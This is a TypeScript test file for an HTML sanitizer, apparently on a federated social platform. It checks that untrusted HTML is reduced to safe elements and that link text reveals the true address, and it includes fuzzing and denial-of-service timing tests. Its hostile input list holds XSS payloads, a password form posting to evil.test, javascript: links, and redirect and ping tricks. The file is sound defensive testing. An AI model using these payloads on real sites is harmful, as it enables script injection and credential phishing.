import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { Parser } from "htmlparser2";
import { cleanHtml } from "#platform/clean-html";

const clean = (html: string) => cleanHtml(html, 5000).html;
const allowed = new Set("p br a em strong del code pre blockquote ul ol li".split(" "));

/** What is wrong with HTML that should be harmless: a wrong element or attribute, or something left open. */
function complaints(html: string): string[] {
  const found: string[] = [];
  const open: string[] = [];
  const parser = new Parser({
    onopentag: (name, attributes) => {
      if (!allowed.has(name)) found.push(`<${name}>`);
      for (const [key, value] of Object.entries(attributes)) {
        if (name !== "a" || (key !== "href" && key !== "rel")) found.push(`${name} ${key}`);
        if (key === "href" && !/^(https?:\/\/|\/)/.test(value)) found.push(value);
      }
      if (name !== "br") open.push(name);
    },
    onclosetag: (name) => {
      if (name !== "br" && open.pop() !== name) found.push(`</${name}>`);
    },
  });
  parser.end(html);
  if (/&(?!(?:amp|lt|gt|quot|#39);)/.test(html)) found.push("another entity");
  const tags = [...html.matchAll(/<(\/?)(\w+)/g)];
  const depth = tags.reduce((sum, [, slash, name]) => (name === "br" ? sum : sum + (slash ? -1 : 1)), 0);
  if (depth !== 0) found.push("left open");
  return found;
}

const hostile: readonly string[] = [
  "<form action=https://evil.test><input name=password><button formaction=x>Masuk</button></form>",
  "<style>*{display:none}</style><p style='position:fixed' id=a name=b onclick=alert(1) class=fixed>Halo</p>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
  "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg><math><mtext></math>",
  "<base href=https://evil.test><meta http-equiv=refresh content='0;url=//evil.test'><link rel=stylesheet href=x>",
  "<template><script>1</script></template><noscript><img src=x onerror=alert(1)></noscript>",
  "<textarea><script>1</script></textarea><select><option>x</select><dialog open>x</dialog>",
  "<video onerror=alert(1) src=x></video><a ping=https://evil.test href='https://a.test'>x</a><img srcset='x 1x' src=x>",
  "<a href='javascript:alert(1)'>x</a><a href='  java\nscript:alert(1)'>y</a><a href='data:text/html,x'>z</a><a href='//a.test'>w</a>",
  "<a href='https://user:pw@evil.test/'>x</a><a href=https://evil.test/>https://bank.example/masuk</a>",
  "<p><b><i>tumpang</b></i><ul><li>satu<li>dua</ul><table><tr><td>a</table>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>&lt;script&gt;&amp;lt;",
  "<!--><img src=x onerror=alert(1)>--><![CDATA[<script>]]><?php <script> ?>",
];

test("XSS-01 Of HTML of other servers only plain elements are left, well nested, with no attribute but a link's address", () => {
  for (const html of hostile) assert.deepEqual(complaints(clean(html)), [], `${html}\n${clean(html)}`);
  const tags = fc.constantFrom(
    ..."p div b i a ul ol li pre code blockquote h2 br span script svg style table tr td form img".split(" "),
  );
  const piece = fc.oneof(
    tags.map((name) => `<${name} href="https://a.test/x" onclick=x>`),
    tags.map((name) => `</${name}>`),
    fc.string(),
    fc.constantFrom("kata ", "&", "<", ">", '"', "'", "\u0000", "<a href='", "<!--", "-->"),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
      assert.deepEqual(complaints(clean(pieces.join(""))), []);
    }),
    { numRuns: 1500 },
  );
});

test("XSS-01 What is left says what was written, and a link that looks like an address says the true one", () => {
  assert.equal(clean("<h1>Judul</h1><p>Satu<br>dua</p>"), "<p>Judul</p><p>Satu<br>dua</p>");
  assert.equal(clean("polos <b>tebal</b>"), "<p>polos <strong>tebal</strong></p>");
  assert.match(clean("<a href='https://evil.test/x'>https://bank.example/masuk</a>"), />evil\.test\/x<\/a>/);
  assert.match(
    clean("<a href='https://bank.example/masuk'><span class=invisible>https://</span>bank.example/masuk</a>"),
    />https:\/\/bank\.example\/masuk<\/a>/,
  );
  assert.equal(cleanHtml("<p>Satu</p><p>dua<br>tiga</p>", 100).text, "Satu\n\ndua\ntiga");
  const links = new Map([["https://desa.test/@budi", "/@budi@desa.test"]]);
  assert.equal(
    cleanHtml("<a href='https://desa.test/@budi' class=mention>@<span>budi</span></a>", 100, links).html,
    '<p><a href="/@budi@desa.test">@budi</a></p>',
  );
  assert.match(cleanHtml("kata ".repeat(2000), 100).html, /…<\/p>$/);
});

test("DOS-01 Hostile HTML of a megabyte takes no longer than its length", () => {
  const started = performance.now();
  for (const html of [
    "<a ".repeat(200_000),
    `<link rel="alternate" ${'a="'.repeat(300_000)}`,
    "<b>".repeat(300_000),
    "</p>".repeat(250_000),
    "<p>".repeat(300_000),
    "&".repeat(1_000_000),
    "<!--".repeat(250_000),
  ])
    cleanHtml(html, 5000);
  assert.ok(performance.now() - started < 10_000);
});
